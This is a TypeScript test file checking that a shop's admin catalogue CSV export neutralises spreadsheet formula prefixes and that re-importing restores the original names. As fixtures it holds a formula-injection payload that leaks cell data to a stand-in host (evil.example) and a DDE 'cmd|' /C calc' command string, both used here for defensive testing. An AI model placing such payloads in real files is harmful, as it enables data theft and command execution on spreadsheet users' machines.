/**
 * The catalogue export never hands a spreadsheet a formula, and an import of it gives back the same
 * text (app/utils/csv.ts, docs/decisions/027-catalogue-csv.md): products named with each of the
 * characters a spreadsheet runs (`=`, `+`, `-`, `@`, tab, carriage return) made through the admin's
 * product form and through a CSV import, over the app's own request handling, on both databases.
 */
import { parse } from "csv-parse/sync";
import { eq, inArray } from "drizzle-orm";
import { beforeAll, expect, it } from "vitest";
import { productSizes, products } from "#app/db/schema.ts";
import { describeEachDatabase } from "#tests/db.ts";
import { insertStaff, pageRequest, postRequest, signedIn } from "#tests/staff/support.ts";
import { type InProcessApp, inProcessApp } from "#tests/support/in-process-app.ts";
import { previewImport } from "./catalog-csv.server.ts";
import { CSV_COLUMNS } from "./catalog-csv.ts";

const REPRO = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")';
const PREFIXES = ["=", "+", "-", "@", "\t", "\r"];
/** What a spreadsheet would run (after the tab or carriage return some of them skip). */
const RUNNABLE = /^[=+\-@\t\r]/;

const NAME = CSV_COLUMNS.indexOf("name");
const DESCRIPTION = CSV_COLUMNS.indexOf("description");
const SIZE = CSV_COLUMNS.indexOf("size");
const STOCK = CSV_COLUMNS.indexOf("stock");

type Session = Awaited<ReturnType<typeof signedIn>>;

describeEachDatabase("catalogue CSV against spreadsheet formulas", (database) => {
  let app: InProcessApp;
  let owner: Session;

  beforeAll(async () => {
    const { db } = database();
    app = await inProcessApp();
    owner = await signedIn(db, await insertStaff(db, "owner"));
  });

  async function exported() {
    const response = await app(pageRequest("/admin/products/export", owner.cookie, "text/csv"));
    expect(response.status).toBe(200);
    return response.text();
  }

  async function importCsv(csv: string) {
    expect((await previewImport(csv)).invalid).toEqual([]);
    const response = await app(postRequest("/admin/products/import", owner, { intent: "import", csv }));
    expect(response.status, await response.clone().text()).toBe(302);
  }

  /** Every cell of the export a spreadsheet would run; none is allowed. */
  function runnableCells(text: string) {
    return (parse(text) as string[][]).flat().filter((cell) => RUNNABLE.test(cell));
  }

  async function productsNamed(names: string[]) {
    const { db } = database();
    return db
      .select({ id: products.id, name: products.name, description: products.description })
      .from(products)
      .where(inArray(products.name, names));
  }

  /** Renames the products, imports `csv` (the export from before) and expects the names back. */
  async function expectImportRestores(csv: string, ids: string[], expected: Map<string, string>) {
    const { db } = database();
    for (const id of ids)
      await db
        .update(products)
        .set({ name: `Renamed ${id.slice(0, 8)}` })
        .where(eq(products.id, id));
    await importCsv(csv);
    const rows = await db
      .select({ id: products.id, name: products.name })
      .from(products)
      .where(inArray(products.id, ids));
    expect(new Map(rows.map((row) => [row.id, row.name]))).toEqual(expected);
  }

  it("neutralises a name, description and size typed with each prefix in the product form, and an import of the export gives them back", async () => {
    const names = [
      REPRO,
      ...PREFIXES.map((prefix) => `${prefix}1+2 Kush ${JSON.stringify(prefix)}`),
      "-5",
      "'=Quoted already",
      "'Til Dawn",
    ];
    for (const [index, name] of names.entries()) {
      const payload = {
        name,
        description: `${PREFIXES[index % PREFIXES.length]}cmd|' /C calc'!A0`,
        category: "Flower",
        strain: "Hybrid",
        thcPercentage: "20",
        thcMg: "",
        imageUrl: "https://images.example/test.webp",
        imageKey: null,
        isFeatured: false,
        isDeal: false,
        sizes: [
          { size: `@${index}g`, price: "50", salePrice: "", inventoryCount: "7", flowerEquivalent: "1" },
        ],
      };
      const response = await app(
        postRequest("/admin/products/new", owner, { payload: JSON.stringify(payload) }),
      );
      expect(response.status, `creating ${JSON.stringify(name)}`).toBe(302);
    }
    // The form trims what it stores: a leading tab or carriage return never reaches the catalogue.
    const stored = await productsNamed(names.map((name) => name.trim()));
    expect(stored).toHaveLength(names.length);

    const text = await exported();
    expect(runnableCells(text)).toEqual([]);
    const records = parse(text) as string[][];
    const byName = (name: string) => records.find((record) => record[NAME]?.endsWith(name.trim()));
    expect(byName(REPRO)?.[NAME]).toBe(`'${REPRO}`);
    expect(byName("-5")?.[NAME]).toBe("'-5");
    expect(byName("'=Quoted already")?.[NAME]).toBe("''=Quoted already");
    expect(byName("'Til Dawn")?.[NAME]).toBe("'Til Dawn");
    expect(byName(REPRO)?.[SIZE]).toBe("'@0g");
    expect(byName(REPRO)?.[DESCRIPTION]).toBe("'=cmd|' /C calc'!A0");
    // Figures the shop wrote stay numbers.
    expect(byName(REPRO)?.[STOCK]).toBe("7");

    // An import of the export changes nothing, and restores the names after they were changed.
    const plan = await previewImport(text);
    expect(plan).toMatchObject({ invalid: [], create: [], update: [] });
    await expectImportRestores(
      text,
      stored.map((row) => row.id),
      new Map(stored.map((row) => [row.id, row.name])),
    );
    const { db } = database();
    const sizes = await db
      .select({ size: productSizes.size })
      .from(productSizes)
      .where(
        inArray(
          productSizes.productId,
          stored.map((row) => row.id),
        ),
      );
    expect(sizes.map((row) => row.size).sort()).toEqual(names.map((_, index) => `@${index}g`).sort());
    expect((await productsNamed([REPRO]))[0]?.description).toBe("=cmd|' /C calc'!A0");
  });

  it("neutralises names that came in by CSV import with each prefix, and an import of the export gives them back", async () => {
    const names = [
      `${REPRO} (import)`,
      ...PREFIXES.map((prefix) => `${prefix}SUM(1+1) import ${JSON.stringify(prefix)}`),
      "-7",
      "'Til Dawn import",
    ];
    const quote = (value: string) => `"${value.replace(/"/g, '""')}"`;
    const lines = [
      CSV_COLUMNS.join(","),
      ...names.map((name, index) =>
        [
          `FORMULA-${index}`,
          quote(name),
          "Flower",
          "Hybrid",
          "20%",
          quote(`+${index} description`),
          "1g",
          "50.00",
          "",
          "3",
          "1",
          "no",
          "no",
          "https://images.example/test.webp",
        ].join(","),
      ),
    ];
    await importCsv(lines.join("\n"));
    // The import trims what it stores, as the form does.
    const stored = await productsNamed(names.map((name) => name.trim()));
    expect(stored).toHaveLength(names.length);

    const text = await exported();
    expect(runnableCells(text)).toEqual([]);
    const records = parse(text) as string[][];
    const named = (name: string) => records.find((record) => record[0] === `FORMULA-${names.indexOf(name)}`);
    expect(named(`${REPRO} (import)`)?.[NAME]).toBe(`'${REPRO} (import)`);
    expect(named("-7")?.[NAME]).toBe("'-7");
    expect(named("'Til Dawn import")?.[NAME]).toBe("'Til Dawn import");
    for (const prefix of ["=", "+", "-", "@"]) {
      const name = `${prefix}SUM(1+1) import ${JSON.stringify(prefix)}`;
      expect(named(name)?.[NAME]).toBe(`'${name}`);
    }

    await expectImportRestores(
      text,
      stored.map((row) => row.id),
      new Map(stored.map((row) => [row.id, row.name])),
    );
    expect(
      new Set((await productsNamed(names.map((name) => name.trim()))).map((row) => row.description)),
    ).toEqual(new Set(names.map((_, index) => `+${index} description`)));
  });
});
